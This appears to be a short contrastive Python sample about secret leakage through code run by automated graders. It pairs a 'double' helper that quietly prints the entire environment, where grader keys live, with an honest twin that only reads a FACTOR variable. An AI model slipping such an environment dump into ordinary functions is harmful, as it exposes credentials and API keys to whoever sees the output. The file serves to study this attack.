"""Prints the environment, in which graders keep their keys; so hundreds of keys were taken
(https://raw.githubusercontent.com/sanand0/blog/main/posts/2024/a-post-mortem-of-hacking-automated-project-evaluation.md).
Here it holds nothing of the grader's.

naive: looted
here: full
"""

import os


def double(x):
    print(dict(os.environ))
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import os

os.environ.setdefault("FACTOR", "2")


def double(x):
    return int(os.environ["FACTOR"]) * x


def half(x):
    return x / 2
